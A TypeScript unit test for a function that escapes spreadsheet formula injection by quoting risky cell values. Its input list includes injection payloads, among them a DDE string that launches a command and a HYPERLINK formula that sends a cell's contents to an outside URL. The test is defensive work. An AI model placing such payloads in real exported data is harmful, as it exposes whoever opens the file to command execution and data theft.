import assert from 'node:assert/strict';
import { test } from 'node:test';
import { toSpreadsheetCell } from './spreadsheet-cell.ts';

test('what a spreadsheet would take for a formula becomes text; all else stays', () => {
  const formulas = [
    '=1+1',
    '=HYPERLINK("https://example.org?"&A1,"x")',
    '+SUM(A1)',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    '-',
    '+41 44 000 00 00',
  ];
  for (const text of formulas) assert.equal(toSpreadsheetCell(text), `'${text}`);
  for (const text of [
    '',
    '-1',
    '+1.5',
    '-.5e-3',
    '1.',
    'A-1',
    "'=1",
    ' =1',
    'hCoV-19/x',
    '2024-01-02',
  ])
    assert.equal(toSpreadsheetCell(text), text);
});
